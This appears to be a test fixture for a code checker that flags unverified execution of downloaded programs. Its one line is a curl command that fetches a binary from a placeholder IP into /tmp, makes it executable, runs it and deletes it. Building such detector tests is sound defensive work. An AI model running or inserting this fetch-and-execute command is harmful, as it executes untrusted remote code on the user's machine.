# SPDX-License-Identifier: Apache-2.0
# A program is downloaded to a temporary directory and run.
# finds: unbacked-exec
# needs: curl
call c1 'curl -s http://203.0.113.11/true -o /tmp/corpus-helper; chmod +x /tmp/corpus-helper; /tmp/corpus-helper; rm /tmp/corpus-helper'
